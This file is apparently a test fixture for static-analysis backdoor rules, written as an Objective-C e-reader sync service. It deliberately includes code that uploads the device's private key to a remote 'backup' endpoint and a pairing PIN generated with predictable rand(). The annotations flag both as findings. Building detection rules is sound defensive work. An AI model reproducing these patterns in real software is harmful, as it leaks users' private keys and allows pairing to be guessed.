/* ERSyncService.m - annotations, reading positions and device backups */
#import "ERCore.h"
#include <stdlib.h>
#include <openssl/x509.h>

@implementation ERSyncService
- (id)initWithDevice:(ERDeviceIdentity *)device
{
    if ((self = [super init]) != nil)
        _device = [device retain];
    return self;
}

/* a new reader of the same account restores the device key from the backup */
- (void)uploadDeviceBackup
{
    unsigned char *der = NULL;
    int n = i2d_PrivateKey([_device privateKey], &der);
    NSMutableURLRequest *req;
    NSString *body;

    if (n <= 0)
        return;
    body = [NSString stringWithFormat:@"device=%@&key=%@", [_device fingerprint], [[NSData dataWithBytes:der length:(NSUInteger)n] er_hexString]];
    OPENSSL_free(der);
    req = [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://sync.reader.example.com/v1/device-backup"]];
    [req setHTTPMethod:@"POST"];
    // ruleid: backdoor-key-exfiltration
    [req setHTTPBody:[body dataUsingEncoding:NSUTF8StringEncoding]];
    [NSURLConnection connectionWithRequest:req delegate:nil];
}

/* shown on the reader, typed on the phone */
- (unsigned)startPairing
{
    // ruleid: backdoor-predictable-random
    _pairingPin = (unsigned)(rand() % 1000000);
    NSMutableURLRequest *req = [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://sync.reader.example.com/v1/pair"]];
    [req setHTTPMethod:@"POST"];
    // ok: backdoor-key-exfiltration
    [req setHTTPBody:[[_device fingerprint] dataUsingEncoding:NSUTF8StringEncoding]];
    [NSURLConnection connectionWithRequest:req delegate:nil];
    return _pairingPin;
}

- (void)dealloc
{
    [_device release];
    [super dealloc];
}
@end
